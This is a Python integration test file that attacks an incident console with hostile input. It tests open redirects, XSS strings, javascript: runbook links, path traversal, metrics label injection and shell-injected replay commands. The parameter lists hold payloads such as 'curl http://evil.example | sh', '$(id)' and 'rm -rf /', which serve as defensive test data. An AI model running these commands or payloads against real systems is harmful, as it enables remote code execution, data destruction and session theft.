"""An attacker's look at the console: the function as the buildpack loads it, over the real
ledger on the Firestore emulator. Hostile text reaches it through the ledger (alert labels,
annotations, recorded commands) and through the request (paths, query parameters, headers)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from functions_framework import create_app
from prometheus_client.parser import text_string_to_metric_families

from shared.console import app as console_app
from shared.console.auth import COOKIE, session_value
from shared.ledger import Ledger
from shared.run import Run
from tests.conftest import reset_settings
from tests.seed import make_alert, seed_run

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "adversarial-console-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
EVIL = "\"'><svg onload=alert(1)><script>alert(2)</script>"


@pytest.fixture
def client(store: Ledger, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("ALERTLOOP_CONSOLE_TOKEN", TOKEN)
    monkeypatch.setenv("ALERTLOOP_CONSOLE_CACHE_SECONDS", "0")
    reset_settings()
    console_app.snapshots.clear()
    return create_app("console", str(ROOT / "main.py"), "http").test_client()


def _hostile_run(store: Ledger, runbook: str = "javascript:alert(1)") -> Run:
    return seed_run(
        store,
        make_alert(
            "ApplicationDown",
            labels={"namespace": EVIL, "cluster": EVIL, "pod": EVIL},
            annotations={"runbook_url": runbook, "summary": EVIL, "description": EVIL},
        ),
    )


def _no_markup(html: str) -> None:
    assert "<script>" not in html and "<svg" not in html.replace('<svg class="chart"', "")


# ---- redirects ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/",
        "/\\evil.example/",
        "/%09/evil.example/",  # a browser drops the tab: //evil.example/
        "/%0d%0a/evil.example/",
        "/%0a/evil.example/",
        "https://evil.example/",
        "/%E2%80%AE/evil",
        "",
    ],
)
def test_login_never_redirects_off_the_console(client: Any, target: str) -> None:
    resp = client.get(f"/login?token={TOKEN}&next={target}")
    assert resp.status_code == 303
    location = resp.headers["Location"]
    assert location == "/" or re.fullmatch(r"/[!-~]*", location), location
    assert not location.startswith("//") and "\\" not in location


@pytest.mark.parametrize("path", ["/%09/evil.example/", "/%0a/evil.example", "/%2F/evil.example"])
def test_a_token_on_any_page_redirects_on_this_console(client: Any, path: str) -> None:
    resp = client.get(f"{path}?token={TOKEN}&state=open")
    assert resp.status_code == 303
    location = resp.headers["Location"]
    assert re.fullmatch(r"/[!-~]*", location) and not location.startswith("//"), location
    assert TOKEN not in location


def test_login_keeps_a_plain_next_and_its_query(client: Any) -> None:
    resp = client.get(f"/login?token={TOKEN}&next=/%3Fstate%3Dopen")
    assert resp.headers["Location"] == "/?state=open"


# ---- auth -----------------------------------------------------------------------------------


def test_no_configured_token_refuses_everything(
    store: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ALERTLOOP_CONSOLE_TOKEN", "   ")
    reset_settings()
    c = create_app("console", str(ROOT / "main.py"), "http").test_client()
    for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer    "}):
        for path in ("/", "/metrics", "/health", "/login?token=", "/login?token=%20"):
            assert c.get(path, headers=headers).status_code == 401, (path, headers)
    c.set_cookie(COOKIE, session_value(""))
    assert c.get("/").status_code == 401


def test_cookie_flags(client: Any) -> None:
    resp = client.get(f"/login?token={TOKEN}", base_url="https://console.example")
    cookie = resp.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" in cookie
    assert TOKEN not in cookie
    # a wrong token with odd bytes is a plain 401
    resp = client.get("/", headers={"Authorization": "Bearer t\u00e9\u00ff"})
    assert resp.status_code == 401


# ---- methods and paths -----------------------------------------------------------------------


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_only_get_and_head(client: Any, method: str) -> None:
    resp = client.open("/", method=method, headers=AUTH)
    assert resp.status_code == 405 and "GET" in resp.headers["Allow"]


@pytest.mark.parametrize(
    "path",
    [
        "/incidents/../metrics",
        "/incidents/%2e%2e/",
        "/incidents/a%2Fb",
        "/incidents/" + "a" * 65,
        "/incidents/" + "a" * 5000,
        "/incidents/__reserved__",
        "/incidents/__name__",
        "/incidents/%00",
        "/incidents/%C3%A9",
        "/incidents/.",
        "/incidents/..",
        "/incidents//x",
    ],
)
def test_odd_incident_paths_are_404(client: Any, path: str) -> None:
    resp = client.get(path, headers=AUTH)
    assert resp.status_code in (400, 404), (path, resp.status_code, resp.get_data(as_text=True))


def test_head_is_served(client: Any, store: Ledger) -> None:
    resp = client.head("/", headers=AUTH)
    assert resp.status_code == 200


# ---- query parameters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "cursor=__reserved__",
        "cursor=..%2F..",
        "cursor=" + "a" * 65,
        "state=closed",
        "state=" + "%22%3E%3Cscript%3E",
        "since=5y",
        "since=%22%3E",
    ],
)
def test_bad_query_values_are_a_clear_400(client: Any, store: Ledger, query: str) -> None:
    resp = client.get(f"/?{query}", headers=AUTH)
    html = resp.get_data(as_text=True)
    assert resp.status_code == 400, (query, resp.status_code, html)
    _no_markup(html)


@pytest.mark.parametrize("name", ["alert_type", "cluster", "namespace"])
def test_filter_values_are_escaped_in_the_form_and_links(
    client: Any, store: Ledger, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("ALERTLOOP_CONSOLE_PAGE_SIZE", "1")
    reset_settings()
    for _ in range(2):
        seed_run(store, make_alert("ApplicationDown", labels={name: EVIL}))
    from urllib.parse import quote

    resp = client.get(f"/?{name}={quote(EVIL)}&namespace_extra=%00", headers=AUTH)
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    _no_markup(html)
    assert "&#34;&#39;&gt;&lt;svg" in html or "&#x27;&gt;&lt;svg" in html or "&gt;&lt;svg" in html
    # every attribute stays one attribute: no raw quote or angle bracket inside a value
    for value in re.findall(r'(?:value|href)="([^"]*)"', html):
        assert "<" not in value and ">" not in value and "'" not in value, value


def test_health_page_with_hostile_alert_types(client: Any, store: Ledger) -> None:
    run = seed_run(store, make_alert("ApplicationDown"))
    store._doc("runs", run.run_id).update({"alert_type": EVIL})
    html = client.get("/health", headers=AUTH).get_data(as_text=True)
    _no_markup(html)
    from urllib.parse import quote

    sel = client.get(f"/health?alert_type={quote(EVIL)}", headers=AUTH)
    assert sel.status_code == 200
    _no_markup(sel.get_data(as_text=True))


# ---- the incident page -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "runbook",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        'https://ok.example/" onmouseover="alert(1)',
        "https://ok.example/\u202egnp.exe",
    ],
)
def test_runbook_urls_that_are_not_web_links_are_never_links(
    client: Any, store: Ledger, runbook: str
) -> None:
    run = _hostile_run(store, runbook)
    html = client.get(f"/incidents/{run.incident_id}", headers=AUTH).get_data(as_text=True)
    _no_markup(html)
    hrefs = re.findall(r'href="([^"]*)"', html)
    for href in hrefs:
        assert href.startswith(("/", "https://", "http://")) and not href.startswith("//"), href
        assert "onmouseover" not in href or "&#34;" in href or "%22" in href


def test_incident_page_escapes_every_outside_field(client: Any, store: Ledger) -> None:
    run = _hostile_run(store)
    html = client.get(f"/incidents/{run.incident_id}", headers=AUTH).get_data(as_text=True)
    _no_markup(html)
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "replay",
    [
        "alertloop replay abc --from investigate; curl http://evil.example | sh",
        "alertloop replay $(id) --from budget",
        "rm -rf /",
        "alertloop replay abc\n--from budget && reboot",
    ],
)
def test_only_well_formed_replay_commands_are_shown(
    client: Any, store: Ledger, replay: str
) -> None:
    run = seed_run(store, make_alert("ErrorBudgetExhausted"))
    store._doc("runs", run.run_id).update(
        {"failures": {"budget": {"error": "boom", "attempts": 5, "replay": replay}}}
    )
    html = client.get(f"/incidents/{run.incident_id}", headers=AUTH).get_data(as_text=True)
    cmds = re.findall(r'<pre class="cmd">(.*?)</pre>', html, re.S)
    assert cmds, html
    for cmd in cmds:
        assert re.fullmatch(
            r"alertloop replay [A-Za-z0-9_-]+( --from [a-z_]+)?( --force)?"
            r"( \(then approve the new proposal\))?",
            cmd,
        ), cmd


def test_a_recorded_replay_command_is_still_shown(client: Any, store: Ledger) -> None:
    run = seed_run(store, make_alert("ErrorBudgetExhausted"))
    cmd = f"alertloop replay {run.run_id} --from budget"
    store._doc("runs", run.run_id).update(
        {"failures": {"budget": {"error": "boom", "attempts": 5, "replay": cmd}}}
    )
    html = client.get(f"/incidents/{run.incident_id}", headers=AUTH).get_data(as_text=True)
    assert f'<pre class="cmd">{cmd}</pre>' in html


# ---- /metrics --------------------------------------------------------------------------------


def test_metrics_label_values_are_escaped(client: Any, store: Ledger) -> None:
    hostile = 'a"b\\c\nd} evil_metric 1\n# TYPE x'
    run = seed_run(store, make_alert("ErrorBudgetExhausted"))
    store._doc("runs", run.run_id).update(
        {
            "alert_type": hostile,
            "state": hostile,
            "failures": {'st"a\\ge\n': {"error": "x", "attempts": 1, "replay": ""}},
        }
    )
    resp = client.get("/metrics", headers=AUTH)
    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    assert "\nevil_metric" not in text and "\n# TYPE x" not in text
    found: set[str] = set()
    for fam in text_string_to_metric_families(text):
        assert fam.name.startswith("alertloop_"), fam.name
        for s in fam.samples:
            found.update(s.labels.values())
    assert hostile in found and 'st"a\\ge\n' in found
